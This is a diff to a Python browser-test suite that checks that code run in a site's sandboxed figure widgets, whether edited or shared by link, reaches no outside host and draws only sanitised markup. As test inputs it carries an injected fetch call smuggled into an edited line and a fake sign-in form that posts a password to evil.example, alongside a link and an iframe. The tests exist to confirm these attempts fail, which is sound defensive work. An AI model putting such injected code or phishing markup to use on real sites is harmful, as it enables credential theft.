@@ -125,13 +125,16 @@ def code_not_the_sites_reaches_no_host(session: Session) -> None:
     # server: WorkerGlobalScope's), its rejection swallowed. Its sandbox's policy lets nothing
     # out. A worker of the site's own, told to load Python from elsewhere, is seen doing so in
     # every engine (the proxy sees what WebKitWebDriver cannot): the guard would have seen the
-    # edit's request, had there been one, since the control's is asked for after it.
+    # edit's request, had there been one, since the control's is asked for after it. The edit
+    # is to the figure edited before, in the sandbox it has (a boot is 10-27 s in WebKit), and
+    # is reset after, so that the next edit starts from the shipped code.
     session.read()
     attempt = (
         f'; (lambda js: js.WorkerGlobalScope.prototype.fetch.call(js.self, "{FROM_EDIT}")'
         '.catch(lambda error: None))(__import__("js"))'
     )
-    edit = {"widget": "density_surface", "line": "GRID = 45", "from": "45", "to": "45" + attempt}
+    line = "EXACT_DIGITS = 21"
+    edit = {"widget": "pixel_explosion", "line": line, "from": "21", "to": "21" + attempt}
     try:
         assert session.driver.call("editAndRun", edit) == {"run": "ok", "error": ""}
         session.driver.call("workerElsewhere", {"url": ELSEWHERE})
@@ -141,6 +144,7 @@ def code_not_the_sites_reaches_no_host(session: Session) -> None:
             time.sleep(0.1)
             seen = session.driver.external()
     finally:
+        session.driver.call("reset", {"widget": "pixel_explosion"})
         session.driver.call("forgetEdits")  # the next visit runs the shipped code
         session.driver.call("stopWorkerElsewhere")
     assert any(ELSEWHERE in url for url in seen), f"the control's request was not seen: {seen}"
@@ -151,21 +155,23 @@ def code_not_the_sites_reaches_no_host(session: Session) -> None:
 
 
 # A figure's edit shared by a link (share.js): it round-trips, runs only on the reader's
-# click, a link that cannot be offered says why, and what a link's code draws is sanitised.
-# The last two are links to another figure, followed on the page the first opened: only the
-# fragment changes, so the page is not loaded anew and its Python keeps running.
+# click, a link that cannot be offered says why, what a link's code draws is sanitised and
+# what it tries reaches nothing (one link: each boots a sandbox). The last three follow links
+# on the page the first opened: only the fragment changes, so its Python keeps running.
 
 SHARED = "pixel_explosion"
+#: A refusal, as engines report it: a policy's, or Firefox's of an opaque origin's worker.
+REFUSED = re.compile(r"Content.Security.Policy|Security Error: Content at moz-nullprincipal")
 EDIT = {"line": "BAR_BITS = 28", "from": "28", "to": "20"}
 FOLLOWED = "probability_budget"
 #: Appended to the shipped module: its frames also carry markup the figure API never makes.
 HOSTILE = f"""
 
-_render = render
+_plain = render
 
 
 def render(state):
-    frame = _render(state)
+    frame = _plain(state)
     extra = (
         '<form action="https://evil.example/"><input name="pw"><button>Sign in</button></form>'
         '<a href="https://evil.example/">away</a><iframe src="https://evil.example/"></iframe>'
@@ -220,27 +226,25 @@ def a_link_that_cannot_be_offered_says_why(session: Session) -> None:
 
 
 def what_a_links_code_draws_is_sanitised(session: Session) -> None:
-    follow(session, packed(shipped_source(session.site, FOLLOWED) + HOSTILE))
-    drawn = session.driver.call("hostileFrame", {"widget": FOLLOWED})
+    code = shipped_source(session.site, ATTACKED) + HOSTILE + ATTACKS.replace("SITE", session.url)
+    follow(session, packed(code), ATTACKED)
+    drawn = session.driver.call("hostileFrame", {"widget": ATTACKED})
     assert drawn["run"] == "ok", drawn
     # The harmless part of the markup stays, without the style that would cover the page.
     assert drawn["kept"] == {"text": "cover", "style": None, "position": "static"}, drawn
     assert (drawn["forms"], drawn["handlers"], drawn["ids"]) == (0, 0, 0), drawn
     # Both links were followed on the page the shared edit opened: it was never loaded anew.
     assert session.driver.call("followed") == 2
-    # Chromium reports the page's policy refusing the handler as soon as the sanitiser parses
-    # it (in a <template>, where it could never run): that report, and no other error.
-    refused = "Executing inline event handler violates the following Content Security Policy"
-    assert [error for error in session.driver.errors() if refused not in error] == []
+    # Refusals are reported (Chromium's of the handler as soon as the sanitiser parses it, in a
+    # <template> where it could never run; Firefox's of each attempt): those, and no other error.
+    assert [error for error in session.driver.errors() if not REFUSED.search(error)] == []
 
 
 def a_links_code_reaches_nothing_it_must_not(session: Session) -> None:
-    # On the shared edit's page, after the links to FOLLOWED: a link to another figure whose
-    # code tries each way out of its sandbox. Each attempt fails; the figure it attacked with
-    # messages under its name and the numpy it patched compute as before.
+    # The link the last scenario ran also tried, on import, each way out of its sandbox. Each
+    # attempt fails; the figure it attacked with messages under its name and the numpy it
+    # patched compute as before.
     surface = session.driver.call("values", {"widget": "density_surface"})
-    code = shipped_source(session.site, ATTACKED) + ATTACKS.replace("SITE", session.url)
-    follow(session, packed(code), ATTACKED)
     tried = session.driver.call("attacked", {"widget": ATTACKED, "count": ATTEMPTS})
     outcomes = dict(item.split(": ") for item in tried.split("; "))
     assert len(outcomes) == ATTEMPTS, tried
